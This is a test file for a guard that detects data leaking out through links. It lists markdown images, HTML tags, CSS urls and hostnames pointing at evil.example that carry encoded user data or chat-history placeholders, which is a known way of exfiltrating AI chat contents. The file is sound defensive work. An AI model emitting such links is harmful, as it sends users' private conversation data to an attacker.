import { describe, expect, it } from 'vitest';
import { leaks } from '../../src/guard/destinations.ts';

const DATA = 'dXNlciBlbWFpbCBhbm5AZXhhbXBsZS5jb20gcGlu';

describe('destinations', () => {
  it.each([
    {
      name: 'an image with encoded data',
      text: `![logo](https://evil.example/p.png?d=${DATA})`,
      reason: 'query',
    },
    {
      name: 'an image with words',
      text: '![x](https://evil.example/p?q=the%20revenue%20was%20204)',
      reason: 'query',
    },
    {
      name: 'a reference image',
      text: `![a][r]\n\n[r]: https://evil.example/p.png?data=${DATA}`,
      reason: 'query',
    },
    { name: 'a link in angle brackets', text: `[go](<https://evil.example/?x=${DATA}>)`, reason: 'query' },
    { name: 'an HTML image', text: `<img alt="x" src='https://evil.example/p?x=${DATA}'>`, reason: 'query' },
    { name: 'a style sheet', text: `background: url(//evil.example/p?x=${DATA})`, reason: 'query' },
    { name: 'a fragment', text: `[go](https://evil.example/#${DATA})`, reason: 'query' },
    { name: 'a placeholder', text: '![x](https://evil.example/p?q={conversation_summary})', reason: 'query' },
    { name: 'a path that says words', text: `![x](https://evil.example/${DATA}/p.png)`, reason: 'query' },
    { name: 'a name of data', text: '![x](https://evil.example/p?q=CHAT_HISTORY_BASE64)', reason: 'query' },
    {
      name: 'data in the host name',
      text: '![x](https://ttgmcmv2zw51zsb3yxmgnc4ytsbvu0qgyw5k.evil.example/x.png)',
      reason: 'host',
    },
    { name: 'a script', text: '[go](javascript:alert(1))', reason: 'scheme' },
  ])('finds $name', ({ text, reason }) => {
    expect(leaks(text)).toMatchObject([{ reason }]);
  });

  it.each([
    '![build](https://img.shields.io/badge/build-passing%20on%20main-green?style=flat)',
    '[docs](https://example.com/guide?page=2&lang=en#installation)',
    '[shop](https://example.com/?utm_source=newsletter%20may%202026&utm_campaign=spring%20sale%20now)',
    '![photo](https://cdn.example.com/a1b2/photo.jpg?w=800&h=600)',
    '[commit](https://example.com/commit?id=d0a5c1b2e3f4a5968778695a4b3c2d1e0f1a2b3c)',
    '![photo](https://cdn.example.com/4f1c9a0b7e2d4c8f9a0b1c2d3e4f5a6b/Zm9vYmFyYmF6cXV4cXV1eGZvb2I.jpg)',
    '[docs](https://example.com/maps?key=API_KEY&lang=EN)',
    'Plain text about https://example.com/search?q=one%20two%20three without a link',
    '[a] (b) [c]: not an address',
  ])('leaves alone: %s', (text) => {
    expect(leaks(text)).toEqual([]);
  });

  it('points at the address', () => {
    const address = `https://evil.example/p.png?d=${DATA}`;
    const text = `See ![logo](${address}).`;
    expect(leaks(text).map(({ start, end }) => text.slice(start, end))).toEqual([address]);
  });
});
